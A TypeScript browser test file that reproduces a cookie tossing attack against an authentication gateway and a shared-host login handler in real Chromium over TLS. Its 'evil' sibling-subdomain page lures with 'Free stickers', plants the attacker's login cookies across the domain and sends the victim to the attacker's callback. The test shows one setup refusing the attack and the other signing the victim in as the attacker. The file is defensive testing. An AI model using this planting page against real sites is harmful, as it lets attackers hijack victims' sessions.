// Cookie tossing (attack 10d) in real Chromium over TLS with real host names: https://evil.example.test, a sibling
// subdomain, plants `Domain=example.test` login cookies (by Set-Cookie and by document.cookie) holding an attacker's
// login transaction and session, then sends the victim to the attacker's callback URL. The gateway behind nginx
// (`__Host-` cookies at Path=/) refuses it and the victim signs in as themselves; the same browser and the same planted
// cookies do sign the victim in as the attacker through the shared-host handler's `__Secure-` Path=/_auth/ cookie.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import type { Server, ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Emulator } from '@cognito-connect/emulator';
import { createVisitorAuth } from '@cognito-connect/visitor-auth';
import { getRequestListener } from '@hono/node-server';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { Agent as TlsDispatcher, fetch as undiciFetch } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  chromiumAvailable,
  httpsHostsArgs,
  launchChromium,
  signInOnHostedUi,
} from '../../../../test-fixtures/support/chromium.js';
import { OPENSSL, selfSignedCertificate } from '../../../../test-fixtures/support/tls.js';
import { freePort } from '../support/agent.js';
import { type ForwardAuthSites, startForwardAuthSites } from '../support/forward-auth.js';
import { NGINX, binaryAvailable, startNginx } from '../support/proxies.js';
import { COOKIE_SECRET, OUTSIDER, READER } from '../support/stack.js';

const DOMAIN = 'example.test';
const TX = 'cc-visitor-tx';
const SESSION = 'cc-visitor';
const ATTACKER = OUTSIDER;
const VICTIM = READER;
const CHANNELS = ['Set-Cookie', 'document.cookie'] as const;
type Channel = (typeof CHANNELS)[number];

/** One cookie the sibling subdomain plants for the whole registrable domain. */
interface Planted {
  name: string;
  value: string;
  path: string;
}

/** Every spelling of `base` (no prefix, `__Secure-`, `__Host-`) at Path=/ and at the gateway's /_auth/. */
const spellings = (base: string, value: string): Planted[] =>
  ['', '__Secure-', '__Host-'].flatMap((prefix) =>
    ['/', '/_auth/'].map((path) => ({ name: `${prefix}${base}`, value, path })),
  );

const cookieLine = (cookie: Planted) =>
  `${cookie.name}=${cookie.value}; Domain=${DOMAIN}; Path=${cookie.path}; Secure; SameSite=Lax`;

const escapeHtml = (text: string) => text.replace(/[<>&"']/g, (c) => `&#${c.charCodeAt(0)};`);

/**
 * The attacker's sibling-subdomain page. `/plant?via=…&next=…` plants `plan` for the whole domain, by Set-Cookie or by
 * script, shows what its own document.cookie then holds, and links to `next` (the attacker's callback URL).
 */
function evilPage(plan: () => Planted[]) {
  return (url: URL, res: ServerResponse) => {
    const via = url.searchParams.get('via') as Channel;
    const next = url.searchParams.get('next') ?? '/';
    const script =
      via === 'document.cookie'
        ? plan()
            .map((cookie) => `document.cookie = ${JSON.stringify(cookieLine(cookie))};`)
            .join('\n')
        : '';
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      ...(via === 'Set-Cookie' ? { 'set-cookie': plan().map(cookieLine) } : {}),
    });
    res.end(`<!doctype html><title>Free stickers</title>
<script>${script}
addEventListener('DOMContentLoaded', () => { document.getElementById('jar').textContent = document.cookie; });</script>
<p id="jar"></p><a id="go" href="${escapeHtml(next)}">Claim your stickers</a>`);
  };
}

/** The app behind nginx: the path and the user nginx passed on. */
const appPage = (req: { url?: string; headers: Record<string, string | string[] | undefined> }) =>
  `<!doctype html><title>App</title><h1 id="path">${escapeHtml(req.url ?? '')}</h1>
<p id="email">${escapeHtml(String(req.headers['x-auth-request-email'] ?? ''))}</p>`;

const listen = (server: Server) =>
  new Promise<number>((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
  );
const close = (server: Server | undefined) =>
  new Promise((resolve) => (server?.listening ? server.close(resolve) : resolve(undefined)));

const available = chromiumAvailable() && binaryAvailable(NGINX, 'nginx') && binaryAvailable(OPENSSL, 'openssl');

describe.runIf(available)('cookie tossing from a sibling subdomain, in Chromium over TLS', () => {
  let certDir: string;
  let stack: ForwardAuthSites<'app'>;
  let emulator: Emulator;
  let docsServer: Server;
  let evilServer: Server;
  let dispatcher: TlsDispatcher;
  let browser: Browser;
  /** The gateway's site behind nginx (`__Host-` login cookies at Path=/). */
  let appSite: string;
  /** The shared-host handler's site (createVisitorAuth's default: the transaction cookie `__Secure-` at /_auth/). */
  let docsSite: string;
  let evilSite: string;
  let plan: Planted[] = [];

  beforeAll(async () => {
    certDir = mkdtempSync(join(tmpdir(), 'cc-tossing-'));
    const certificate = selfSignedCertificate(
      certDir,
      ['app', 'docs', 'evil'].map((host) => `${host}.${DOMAIN}`),
    );
    const tls = { cert: certificate.pem, key: readFileSync(certificate.keyFile) };
    dispatcher = new TlsDispatcher({ connect: { ca: certificate.pem } });
    const tlsFetch: typeof fetch = (input, init) =>
      undiciFetch(input as string, { ...(init as object), dispatcher }) as unknown as Promise<Response>;

    const docsPort = await freePort();
    docsSite = `https://docs.${DOMAIN}:${docsPort}`;
    stack = await startForwardAuthSites({
      variants: ['app'],
      proxy: (site) =>
        startNginx(site, 'always', { certFile: certificate.certFile, keyFile: certificate.keyFile, fetch: tlsFetch }),
      app: (req, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(appPage(req));
      },
      clientName: 'Cookie tossing',
      extraSites: [docsSite],
      scheme: 'https',
      host: `app.${DOMAIN}`,
    });
    const { client } = stack;
    emulator = stack.emulator;
    appSite = stack.sites.app.url;

    // The shared-host handler with its shipped default path, answering as the GitBook integration's endpoint does.
    const docs = createVisitorAuth({
      cognito: {
        ...emulator.settingsFor(client.clientId),
        redirectUri: `${docsSite}/_auth/callback`,
        transactionSecret: COOKIE_SECRET,
      },
      site: { url: docsSite },
      signedIn: ({ claims }) =>
        new Response(`<!doctype html><title>Docs</title><p id="email">${escapeHtml(String(claims.email))}</p>`, {
          headers: { 'content-type': 'text/html; charset=utf-8' },
        }),
    });
    docsServer = createHttpsServer(
      tls,
      getRequestListener((request) => docs.fetch(request)),
    );
    await new Promise<void>((resolve) => docsServer.listen(docsPort, '127.0.0.1', resolve));

    const evil = evilPage(() => plan);
    evilServer = createHttpsServer(tls, (req, res) => evil(new URL(req.url ?? '/', 'https://evil'), res));
    evilSite = `https://evil.${DOMAIN}:${await listen(evilServer)}`;

    browser = await launchChromium(httpsHostsArgs(DOMAIN, certificate.spki));
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await stack?.stop();
    await Promise.all([close(docsServer), close(evilServer)]);
    await dispatcher?.close();
    if (certDir) rmSync(certDir, { recursive: true, force: true });
  });

  /**
   * The attacker, in a browser of their own, starts a login at `start`, signs in at the hosted UI and stops before the
   * callback: their unused callback URL and the cookies of that login (the transaction the URL needs).
   */
  async function attackersLogin(
    start: string,
    site: string,
  ): Promise<{ callback: string; cookies: Record<string, string> }> {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      // Chromium's own interception (DevTools' Fetch domain, which also sees a redirect's next hop, unlike
      // Playwright's routes) keeps the callback from reaching the server, as an attacker who copies the URL would.
      const cdp = await context.newCDPSession(page);
      const held = new Promise<string>((resolve) => {
        cdp.on('Fetch.requestPaused', (event) => {
          resolve(event.request.url);
          void cdp.send('Fetch.fulfillRequest', {
            requestId: event.requestId,
            responseCode: 200,
            responseHeaders: [{ name: 'content-type', value: 'text/plain' }],
            body: btoa('kept for the victim'),
          });
        });
      });
      await cdp.send('Fetch.enable', { patterns: [{ urlPattern: `${site}/_auth/callback?*` }] });
      await page.goto(start);
      await signInOnHostedUi(page, emulator.url, ATTACKER);
      const callback = await held;
      await page.waitForURL(callback);
      const cookies = Object.fromEntries((await context.cookies(callback)).map((c) => [c.name, c.value]));
      return { callback, cookies };
    } finally {
      await context.close();
    }
  }

  /** The attacker's own signed-in gateway session cookie (a whole login in their browser). */
  async function attackersSession(): Promise<string> {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`${appSite}/docs/attacker`);
      await signInOnHostedUi(page, emulator.url, ATTACKER);
      await page.waitForURL(`${appSite}/docs/attacker`);
      expect(await page.textContent('#email')).toBe(ATTACKER.email);
      const session = (await context.cookies(appSite)).find((c) => c.name === `__Host-${SESSION}`);
      expect(session).toMatchObject({ domain: `app.${DOMAIN}`, path: '/', secure: true, httpOnly: true });
      return session?.value as string;
    } finally {
      await context.close();
    }
  }

  /** What Chromium did with the planted cookies: refused Set-Cookie lines and why, what it stored, what it sends. */
  interface Evidence {
    refused: Array<{ line: string; reasons: string[] }>;
    jar: string;
    stored: string[];
    sentTo: (url: string) => Promise<string[]>;
  }

  /** The victim's browser opens the evil page, which plants `planted` over `via` and links to `next`. */
  async function visitEvil(context: BrowserContext, page: Page, via: Channel, next: string): Promise<Evidence> {
    const refused: Evidence['refused'] = [];
    const cdp = await context.newCDPSession(page);
    await cdp.send('Network.enable');
    cdp.on('Network.responseReceivedExtraInfo', (event) => {
      for (const blocked of event.blockedCookies) {
        refused.push({ line: blocked.cookieLine, reasons: blocked.blockedReasons });
      }
    });
    await page.goto(`${evilSite}/plant?${new URLSearchParams({ via, next })}`);
    expect(await page.evaluate(() => window.isSecureContext)).toBe(true);
    const line = (c: { name: string; domain: string; path: string }) => `${c.name} ${c.domain} ${c.path}`;
    return {
      refused,
      jar: (await page.textContent('#jar')) ?? '',
      stored: (await context.cookies()).map(line).sort(),
      sentTo: async (url) => (await context.cookies(url)).map(line).sort(),
    };
  }

  /** What a browser that accepted prefixes as the spec says stores: every planted cookie but the `__Host-` ones. */
  const domainWide = (planted: Planted[]) =>
    planted
      .filter((cookie) => !cookie.name.startsWith('__Host-'))
      .map((cookie) => `${cookie.name} .${DOMAIN} ${cookie.path}`)
      .sort();

  function expectOnlyHostPrefixRefused(evidence: Evidence, via: Channel, planted: Planted[]): void {
    expect(evidence.stored).toEqual(domainWide(planted));
    // document.cookie on the evil page (at /plant) reads back what was stored at Path=/ (none of it HttpOnly).
    expect(
      evidence.jar
        .split('; ')
        .map((pair) => pair.split('=')[0])
        .sort(),
    ).toEqual(
      planted
        .filter((cookie) => !cookie.name.startsWith('__Host-') && cookie.path === '/')
        .map((cookie) => cookie.name)
        .sort(),
    );
    if (via === 'Set-Cookie') {
      // Chromium says why: a __Host- cookie may carry no Domain (and must be at Path=/).
      expect(evidence.refused.map((r) => r.line).sort()).toEqual(
        planted
          .filter((cookie) => cookie.name.startsWith('__Host-'))
          .map(cookieLine)
          .sort(),
      );
      for (const { reasons } of evidence.refused) expect(reasons).toContain('InvalidPrefix');
    } else {
      expect(evidence.refused).toEqual([]);
    }
  }

  /** Prints what Chromium refused and stored (names, paths and reasons; no values) beside the test's verdict. */
  function report(scenario: string, evidence: Evidence): void {
    const refused = evidence.refused.map(({ line, reasons }) => {
      const [pair = '', ...attributes] = line.split('; ');
      return `${pair.split('=')[0]}; ${attributes.join('; ')} (${reasons.join(', ')})`;
    });
    console.info(
      `[cookie tossing, ${scenario}] refused: ${refused.join(' | ') || 'none'}; stored: ${evidence.stored.join(' | ')}`,
    );
  }

  it.each(CHANNELS)(
    'the gateway behind nginx: planted by %s, the attacker’s transaction and session are refused and the victim signs in as themselves',
    async (via) => {
      const attackerSession = await attackersSession();
      const { callback, cookies } = await attackersLogin(`${appSite}/docs/attacker`, appSite);
      const attackerTx = cookies[`__Host-${TX}`] as string;
      expect(attackerTx).toBeTruthy();
      plan = [...spellings(TX, attackerTx), ...spellings(SESSION, attackerSession)];

      const context = await browser.newContext();
      const page = await context.newPage();
      const evidence = await visitEvil(context, page, via, callback);
      expectOnlyHostPrefixRefused(evidence, via, plan);
      // The app's host gets every domain-wide cookie at /_auth/callback (no planted __Host- one): none has its names.
      expect(await evidence.sentTo(callback)).toEqual(domainWide(plan));
      report(`gateway, ${via}`, evidence);

      // The victim follows the evil page's link to the attacker's callback: no transaction, no login.
      const answer = page.waitForResponse((response) => response.url() === callback);
      await page.click('#go');
      expect((await answer).status()).toBe(400);
      await page.waitForURL(callback);
      expect(await page.content()).not.toContain(ATTACKER.email);
      expect((await context.cookies(appSite)).map((c) => c.name)).not.toContain(`__Host-${SESSION}`);

      // The planted session is no session either: the app sends the victim to sign in, and they land as themselves.
      await page.goto(`${appSite}/docs/mine`);
      await signInOnHostedUi(page, emulator.url, VICTIM);
      await page.waitForURL(`${appSite}/docs/mine`);
      expect(await page.textContent('#email')).toBe(VICTIM.email);
      const own = await context.cookies(appSite);
      expect(own.find((c) => c.name === `__Host-${SESSION}`)).toMatchObject({ domain: `app.${DOMAIN}`, secure: true });
      // The planted cookies are still there and still sent; the gateway reads only its __Host- names.
      expect((await context.cookies(`${appSite}/docs/next`)).map((c) => c.name)).toEqual(
        expect.arrayContaining([SESSION, `__Secure-${SESSION}`]),
      );
      await page.goto(`${appSite}/docs/next`);
      expect(await page.textContent('#email')).toBe(VICTIM.email);
      await context.close();
    },
    120_000,
  );

  it.each(CHANNELS)(
    'the shared-host handler’s __Secure- transaction at /_auth/: planted by %s, it signs the victim in as the attacker',
    async (via) => {
      const { callback, cookies } = await attackersLogin(`${docsSite}/_auth/login?location=/`, docsSite);
      const attackerTx = cookies[`__Secure-${TX}`] as string;
      expect(attackerTx).toBeTruthy();
      plan = spellings(TX, attackerTx);

      const context = await browser.newContext();
      const page = await context.newPage();
      const evidence = await visitEvil(context, page, via, callback);
      expectOnlyHostPrefixRefused(evidence, via, plan);
      expect(await evidence.sentTo(callback)).toEqual(domainWide(plan));
      report(`__Secure- handler, ${via}`, evidence);

      // The browser sends the planted __Secure- transaction with the attacker's callback: the victim is the attacker now.
      await page.click('#go');
      await page.waitForURL(callback);
      expect(await page.textContent('#email')).toBe(ATTACKER.email);
      await context.close();
    },
    120_000,
  );
});
